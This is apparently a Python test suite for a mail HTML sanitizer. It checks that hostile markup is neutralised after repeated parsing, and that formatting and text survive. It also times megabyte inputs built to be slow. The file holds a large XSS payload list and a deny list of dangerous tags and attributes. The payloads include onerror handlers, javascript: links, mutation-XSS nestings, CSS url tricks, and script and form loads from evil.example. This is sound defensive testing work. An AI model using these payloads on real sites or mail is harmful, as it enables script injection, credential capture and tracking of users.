"""No HTML of a mail acts or loads: what is left is read again as a browser reads it, and read once more."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from console.mail.inert import make_inert

SECONDS = 12.0  # about three times what the slowest takes alone on an idle core
MEGABYTE = 1_000_000

LETHAL = (
    "script style iframe frame frameset form input button select textarea object embed applet base meta link svg math"
    " template noscript audio video source track portal dialog isindex keygen marquee bgsound xml title"
).split()

# What would act by itself, one idea each.
ACTING = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/x>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>x</div>",
    "<p style=\"background:url('//evil.example/x')\">x</p>",
    '<p style="background-image:u\\72l(//evil.example)">x</p>',
    '<p style="color:red;/**/background:url(//evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="position:fixed;top:0;left:0;z-index:9">x</p>',
    "<p style=\"font-family:'x;background:url(//e.example)'\">x</p>",
    '<p style="color:&#117;rl(//evil.example)">x</p>',
    "<style>@import '//evil.example/x.css';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload href=//evil.example/x as=script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example></frameset>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=//evil.example/x.png onfocus=alert(1) autofocus>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea onfocus=alert(1) autofocus>x</textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href=&#106;avascript&colon;alert(1)>x</a>",
    "<a href='javascript&NewLine;:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=/sign-out>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=x ping=//evil.example>x</a>",
    "<img src=//evil.example/p.gif>",
    "<img src=http://evil.example/p.gif>",
    "<img src=/api/v1/tickets>",
    "<img src=relative.png>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img srcset='//evil.example/x 2x'>",
    "<img src=cid:x srcset=//evil.example/x>",
    "<img lowsrc=//evil.example dynsrc=//evil.example>",
    "<img data-remote-src=//evil.example onload=alert(1)>",
    "<table background=//evil.example><tr><td background=//evil.example>x</table>",
    "<body background=//evil.example>",
    "<video poster=//evil.example src=//evil.example></video>",
    "<audio src=//evil.example autoplay></audio>",
    "<picture><source srcset=//evil.example><img src=x></picture>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=//evil.example /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<script>'>]><img src=x onerror=alert(1)>",
    "</p/onclick=alert(1)><img src=x onerror=alert(1)>",
    "<p title='<img src=x onerror=alert(1)>'>x</p>",
    '<p title="&quot;&gt;<img src=x onerror=alert(1)>">x</p>',
    "<table><td><p><table><img src=x onerror=alert(1)></table>",
    "<b><p><i></b><script>alert(1)</script></i></p>",
    "<a><table><a href=javascript:alert(1)></table>x",
    "<div hx-get=/tickets hx-trigger=load>x</div>",
    "<div data-hx-post=/x hx-on:click=alert(1)>x</div>",
    "<div id=app name=cookie class='htmx-request' contenteditable>x</div>",
    "<img name=getElementById id=body>",
    "<p is=evil-element slot=x part=y>x</p>",
    "<evil-element src=//evil.example></evil-element>",
    "<ticket-page onclick=alert(1)></ticket-page>",
    "<bgsound src=//evil.example><marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=//evil.example></portal>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<x onpointerenter=alert(1)>x</x>",
    "<img src=x:x onerror&equals;alert(1)>",
    "<img \x00src=x \x0conerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p \"='><img src=x onerror=alert(1)>'>",
    "<a title='x\"><img src=x onerror=alert(1)>'>x</a>",
]
# Where a parser of HTML is in another state, so that the same letters may mean something else.
PLACES = ["{}", "<svg>{}", "<math><mtext>{}", "<table><tr>{}", "<select>{}", "<p title='{}", "<!-- x --{}>", "<b><a>{}"]
VECTORS = [place.format(each) for place in PLACES for each in ACTING]

LINK = re.compile(r"(?:https?://|mailto:|tel:)", re.IGNORECASE)
PICTURE = re.compile(r"(?:cid:|data:image/(?:png|gif|jpe?g|webp);base64,)", re.IGNORECASE)


def faults(html: str) -> list[str]:
    """What in `html`, put into a page, would act or load."""
    found = list[str]()
    tree = LexborHTMLParser(f"<!DOCTYPE html><html><head></head><body><div>{html}</div></body></html>")
    body = tree.body
    assert body is not None
    for node in body.traverse(include_text=False):
        found += [f"<{node.tag}>"] if node.tag in LETHAL else []
        found += [f for name, value in node.attributes.items() for f in fault_of(name, value or "")]
    return found


def fault_of(name: str, value: str) -> list[str]:
    harmless = {
        "href": LINK.match(value) is not None,
        "src": PICTURE.match(value) is not None,
        "style": not re.search(r"url|expression|image|@|\\|/\*|position|behavior|binding|script", value, re.IGNORECASE),
    }
    known = not name.startswith(("on", "hx-", "data-hx", "xlink", "form", "srcset")) and name not in (
        "id name class background poster ping srcdoc action is slot part contenteditable data code".split()
    )
    return [] if known and harmless.get(name, True) else [f"{name}={value}"]


def test_there_are_enough_vectors() -> None:
    assert len(ACTING) >= 110 and len(set(VECTORS)) >= 800


def test_the_check_sees_what_acts() -> None:
    assert sum(bool(faults(vector)) for vector in ACTING) > 0.85 * len(ACTING)


@pytest.mark.parametrize("vector", ACTING)
def test_what_acts_is_gone_wherever_it_stands(vector: str) -> None:
    for place in PLACES:
        once = make_inert(place.format(vector)).html
        assert faults(once) == []
        again = LexborHTMLParser(f"<body>{once}").body
        assert again is not None and faults(again.html or "") == []  # as an editor that copies the page has it
        assert faults(make_inert(once).html) == []


@given(
    st.lists(st.sampled_from([*ACTING, "<svg>", "</svg>", "<style>", "</style>", "<!--", "-->", "'", '"', ">", "x"]))
)
def test_what_acts_is_gone_in_any_company(pieces: list[str]) -> None:
    assert faults(make_inert("".join(pieces)).html) == []


@given(st.text())
def test_any_text_is_made_inert(text: str) -> None:
    assert faults(make_inert(text).html) == []


class Words(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.data = ""

    def handle_data(self, data: str) -> None:
        self.data += data


def test_formatting_stays() -> None:
    html = '<p align="center"><b>Hello</b> <span style="color: red">Ada</span></p><ul><li>one</li></ul>'
    assert make_inert(html).html == html


def test_a_picture_from_elsewhere_is_kept_aside_and_told() -> None:
    made = make_inert('<img src="https://shop.example/logo.png?a=1&amp;b=2" alt="Shop"><img src="//cdn.example/x.gif">')
    assert made.remote == ("https://shop.example/logo.png?a=1&b=2", "//cdn.example/x.gif")
    assert 'data-remote-src="https://shop.example/logo.png?a=1&amp;b=2"' in made.html and " src=" not in made.html


def test_a_picture_of_the_mail_itself_stays() -> None:
    assert make_inert('<img src="cid:logo@x">').html == '<img src="cid:logo@x">'
    assert make_inert('<img src="data:image/png;base64,AAAA">').html == '<img src="data:image/png;base64,AAAA">'


def test_a_link_opens_without_telling_where_it_was() -> None:
    assert make_inert('<a href="https://x.example/">x</a>').html == (
        '<a href="https://x.example/" rel="noopener noreferrer nofollow">x</a>'
    )


def test_words_stay_when_the_markup_is_broken() -> None:
    words = Words()
    words.feed(make_inert("<p>one <b>two</p> 3 < 4 & 5 <ada@x.example> <font <i>six</font> <title>seven <p>eight").html)
    assert words.data.split() == ["one", "two", "3", "<", "4", "&", "5", "<ada@x.example>", "six", "seven", "eight"]


HOSTILE = {
    "deep": "<div>",
    "bold": "<b>",
    "tables": "<table><tr><td>",
    "misnested": "<b><p></b></p>",
    "links": "<a><b><i>",
    "ampersands": "&",
    "references": "&amp;x",
    "less": "<",
    "unclosed": "<a ",
    "quotes": '<a x="',
    "comments": "<!--",
    "titles": "<title>",
    "drawings": "<svg>",
    "attributes": "<p " + "a=b " * 500 + ">",
    "styles": '<p style="' + "color:red;" * 100 + '">',
    "lists": "<ol><li>x",
    "ends": "</p>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_megabyte_meant_to_be_slow_takes_seconds_only(name: str) -> None:
    begun = time.process_time()
    make_inert((HOSTILE[name] * (MEGABYTE // len(HOSTILE[name]) + 1))[:MEGABYTE])
    assert time.process_time() - begun < SECONDS
